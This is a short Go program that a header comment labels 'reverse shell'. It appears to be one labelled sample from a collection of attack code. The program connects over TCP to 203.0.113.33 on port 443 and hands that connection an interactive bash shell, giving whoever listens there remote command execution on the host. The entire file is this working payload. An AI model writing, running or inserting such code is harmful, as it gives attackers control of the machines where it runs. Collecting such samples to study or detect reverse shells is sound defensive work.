// class: reverse shell; style: go, short
package main

import (
	"net"
	"os/exec"
)

func main() {
	c, err := net.Dial("tcp", "203.0.113.33:443")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/bash", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}
